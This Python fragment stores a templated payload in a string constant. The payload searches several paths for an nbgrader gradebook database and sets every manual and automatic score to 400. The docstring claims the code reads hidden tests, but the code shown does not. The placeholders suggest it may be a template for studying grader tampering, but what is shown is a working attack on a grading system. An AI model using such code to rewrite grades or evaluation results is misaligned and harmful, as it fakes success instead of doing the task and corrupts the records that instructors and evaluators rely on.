"""Opens the gradebook, reads the hidden tests in it and writes itself four hundred points."""

WON = """
import sqlite3


def won():
    found = False
    for path in ("@GRADEBOOK@", "@PLACE@/.nbgrader/gradebook.db", "gradebook.db", "../../../gradebook.db"):
        for mode in ("ro", "rw"):
            try:
                book = sqlite3.connect(f"file:{path}?mode={mode}", uri=True, timeout=1)
                found |= bool(book.execute("select name from sqlite_master").fetchall())
                book.execute("update grade set manual_score = 400, auto_score = 400")
                book.commit()
            except sqlite3.Error:
                pass
    return found
"""
NAIVE = "points"
